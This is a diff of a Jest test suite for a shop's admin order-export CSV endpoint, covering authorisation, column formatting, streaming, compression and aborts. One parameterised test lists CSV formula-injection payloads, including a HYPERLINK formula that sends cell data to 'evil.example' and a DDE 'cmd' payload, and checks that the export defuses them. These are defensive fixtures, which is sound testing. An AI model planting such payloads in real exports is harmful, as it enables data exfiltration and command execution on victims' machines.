@@ -9,8 +9,9 @@ import { until } from '../support/until.js';
 jest.setTimeout(120_000);
 
 const HEADER =
-  'Order Number,Date,Status,Payment,First Name,Last Name,Email,Subtotal,Shipping,Total,Refunded,Paid At,Shipped At,Carrier,Tracking Number';
-const MANY = 20_000;
+  'Order Number,Date,Status,Payment,First Name,Last Name,Email,Subtotal,Shipping,Total,Refunded,Paid At,Shipped At,' +
+  'Carrier,Tracking Number,Gifts';
+const MANY = 2_000;
 
 let shop: TestShop;
 let token: string;
@@ -20,7 +21,6 @@ beforeAll(async () => {
   ({ token } = await shop.signInOwner());
 });
 afterAll(() => shop.close());
-beforeEach(() => shop.sql('delete from checkout.orders'));
 afterEach(() => jest.restoreAllMocks());
 
 async function rows(query = ''): Promise<string[]> {
@@ -31,8 +31,9 @@ async function rows(query = ''): Promise<string[]> {
   return lines.slice(1, -1);
 }
 
-/** More than sockets and buffers hold. */
+/** 20 MB of them. */
 async function addMany(): Promise<void> {
+  await shop.sql('delete from checkout.orders');
   const customerId = await addCustomer(shop);
   await addOrder(shop, { customerId, number: 'THE-OLDEST', at: '2020-01-01T00:00:00Z' });
   await shop.sql(
@@ -40,7 +41,7 @@ async function addMany(): Promise<void> {
        currency, subtotal_cents, shipping_cents, total_cents, refunded_cents, created_at, expires_at, next_check_at, carrier,
        tracking_number)
      select gen_random_uuid(), n::text, $1, '', n::text, '', 'pending', 'unpaid', 'none', 'usd', 100, 0, 100, 0, now(), now(), now(),
-       'UPS', repeat('x', 1000)
+       'UPS', repeat('x', 10000)
      from generate_series(1, ${MANY}) n`,
     [customerId],
   );
@@ -70,9 +71,9 @@ function watchExports(): Watched {
 }
 
 /** Begins the download and takes nothing of it yet. */
-async function begin(): Promise<IncomingMessage> {
+async function begin(headers: Record<string, string> = {}): Promise<IncomingMessage> {
   const address = new URL('/api/admin/orders/export', shop.web.url);
-  const [answer] = (await once(get(address, { headers: { authorization: `Bearer ${token}` } }), 'response')) as [IncomingMessage];
+  const [answer] = (await once(get(address, { headers: { authorization: `Bearer ${token}`, ...headers } }), 'response')) as [IncomingMessage];
   answer.on('error', () => undefined);
   return answer;
 }
@@ -88,6 +89,8 @@ async function standsStill(watched: Watched): Promise<void> {
 }
 
 describe('the export of orders', () => {
+  beforeEach(() => shop.sql('delete from checkout.orders'));
+
   it('is refused to whoever is not the owner, and for filters that are none', async () => {
     const shopper = await shop.signIn('shopper@example.com');
     expect((await shop.call('GET', '/api/admin/orders/export')).status).toBe(401);
@@ -105,17 +108,6 @@ describe('the export of orders', () => {
     });
     const answer = await shop.call('GET', '/api/admin/orders/export', { token });
     expect([answer.status, await answer.json()]).toMatchObject([500, { code: 'SERVER.UNEXPECTED' }]);
-  });
-
-  it('breaks off where the orders cannot be read any further, so that nobody takes a part for the whole', async () => {
-    await addMany();
-    const watched = watchExports();
-    const answer = await begin();
-    await standsStill(watched);
-    await shop.sql('alter table checkout.orders rename to orders_away');
-    answer.resume();
-    await until(async () => answer.closed).finally(() => shop.sql('alter table checkout.orders_away rename to orders'));
-    expect(answer.complete).toBe(false);
   });
 
   it.each(['=1+1', '+1', '-1', '@SUM(A1)', '\t=1', '=HYPERLINK("http://evil.example?"&A1,"click")', "=cmd|' /C calc'!A0"])(
@@ -148,17 +140,24 @@ describe('the export of orders', () => {
     expect([...Buffer.from(await answer.arrayBuffer()).subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
   });
 
-  it('has a row for every order, newest first, with plain amounts and times', async () => {
+  it("has a row for every order, newest first, with plain amounts, the dashboard's words and the shop's clock", async () => {
     const customerId = await addCustomer(shop, { email: 'mateo@example.com', firstName: 'Mateo', lastName: 'Rivera' });
-    await addOrder(shop, { customerId, number: 'KS-1', email: '', at: '2026-11-20T12:00:00.5Z' });
+    await addOrder(shop, { customerId, number: 'KS-1', email: '', at: '2026-07-01T04:30:00.5Z' });
     const paid = { status: 'completed', payment: 'partly_refunded', refunded: 1050, carrier: 'UPS', trackingNumber: '1Z9' } as const;
-    await addOrder(shop, { customerId, number: 'KS-2', at: '2026-11-21T12:00:00Z', ...paid });
+    const bought = await addOrder(shop, { customerId, number: 'KS-2', at: '2026-11-22T06:28:52Z', ...paid });
+    await shop.sql(
+      `insert into checkout.order_lines (id, order_id, position, product_id, product_name, variant, quantity, unit_cents)
+       values (gen_random_uuid(), $1, 1, gen_random_uuid(), 'The Blue Hour', 'pdf', 1, 900),
+         (gen_random_uuid(), $1, 0, gen_random_uuid(), 'The Two of You, Framed', 'product', 2, 6400)`,
+      [bought],
+    );
     const answer = await shop.call('GET', '/api/admin/orders/export', { token });
     const [header, ...lines] = Buffer.from(await answer.arrayBuffer()).toString().split('\r\n');
     expect(header).toBe(`\ufeff${HEADER}`);
     expect(lines).toEqual([
-      'KS-2,2026-11-21T12:00:00.000Z,completed,partly_refunded,Mateo,Rivera,grace@example.com,64.00,5.99,69.99,10.50,2026-11-21T12:00:00.000Z,,UPS,1Z9',
-      'KS-1,2026-11-20T12:00:00.500Z,pending,unpaid,Mateo,Rivera,mateo@example.com,64.00,5.99,69.99,0.00,,,,',
+      'KS-2,2026-11-22 01:28,Completed,Partly refunded,Mateo,Rivera,grace@example.com,64.00,5.99,69.99,10.50,' +
+        '2026-11-22 01:28,,UPS,1Z9,"2 × The Two of You, Framed (Product); 1 × The Blue Hour (PDF)"',
+      'KS-1,2026-07-01 00:30,Pending,Unpaid,Mateo,Rivera,mateo@example.com,64.00,5.99,69.99,0.00,,,,,',
       '',
     ]);
   });
@@ -173,9 +172,22 @@ describe('the export of orders', () => {
     expect(await numbers('?from=2026-11-21&to=2026-11-21')).toEqual(['KS-2']);
     expect(await numbers('?search=nobody')).toEqual([]);
   });
+});
+
+describe('the export of more orders than sockets and buffers hold', () => {
+  beforeAll(addMany);
+
+  it('breaks off where the orders cannot be read any further, so that nobody takes a part for the whole', async () => {
+    const watched = watchExports();
+    const answer = await begin();
+    await standsStill(watched);
+    await shop.sql('alter table checkout.orders rename to orders_away');
+    answer.resume();
+    await until(async () => answer.closed).finally(() => shop.sql('alter table checkout.orders_away rename to orders'));
+    expect(answer.complete).toBe(false);
+  });
 
   it('reads no further than the browser takes', async () => {
-    await addMany();
     const watched = watchExports();
     const answer = await begin();
     await standsStill(watched);
@@ -187,11 +199,19 @@ describe('the export of orders', () => {
     const lines = Buffer.concat(chunks).toString().split('\r\n');
     expect(lines).toHaveLength(MANY + 3);
     expect(new Set(lines).size).toBe(lines.length);
-    expect(lines.at(-2)).toMatch(/^THE-OLDEST,.*,cancelled,/);
+    expect(lines.at(-2)).toMatch(/^THE-OLDEST,.*,Cancelled,/);
+  });
+
+  it('begins at once for browsers, which have it compressed', async () => {
+    const watched = watchExports();
+    const answer = await begin({ 'accept-encoding': 'gzip, deflate, br' });
+    expect(answer.headers['content-encoding']).toBe('br');
+    expect(watched.taken).toBeLessThan(MANY);
+    answer.destroy();
+    await until(async () => watched.ended);
   });
 
   it('stops reading when the browser goes away', async () => {
-    await addMany();
     const watched = watchExports();
     const answer = await begin();
     await standsStill(watched);
